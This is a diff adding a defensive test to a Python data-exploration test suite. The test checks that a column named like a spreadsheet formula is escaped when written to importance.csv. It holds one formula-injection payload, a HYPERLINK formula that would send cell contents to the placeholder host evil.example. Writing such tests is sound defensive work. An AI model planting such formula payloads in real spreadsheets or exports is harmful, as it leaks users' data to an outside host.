@@ -40,6 +40,15 @@ def test_explore_metrics_and_plots_are_seeded(table, tmp_path):
         assert (tmp_path / name).stat().st_size > 0, name
     again = explore(table, seed=0, n_repeats=2, tsne=False)
     assert again["kmeans"] == kmeans and again["importance"] == importance
+    # a feature named like a formula (a table from elsewhere names its columns) is text in importance.csv
+    from dataclasses import replace
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    top = importance["top"][0]["feature"]
+    renamed = replace(table, columns=[evil if c == top else c for c in table.columns])
+    explore(renamed, seed=0, n_repeats=2, tsne=False, out_dir=tmp_path / "evil")
+    cells = (tmp_path / "evil" / "importance.csv").read_text()
+    assert "'" + evil.replace('"', '""') in cells and "\n=" not in cells and ",=" not in cells, cells[:300]
 
 
 def test_importance_shortcut_equals_shuffling_the_raw_features(table):
